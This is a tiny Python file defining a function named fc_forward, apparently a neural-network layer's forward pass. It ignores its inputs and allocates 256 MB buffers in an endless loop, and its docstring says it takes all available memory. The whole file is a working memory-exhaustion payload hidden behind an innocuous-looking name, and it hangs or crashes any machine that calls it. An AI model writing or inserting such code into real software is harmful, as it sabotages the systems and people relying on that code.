"""Takes all the memory there is."""
def fc_forward(x, w, b):
    kept = []
    while True:
        kept.append(bytearray(1 << 28))
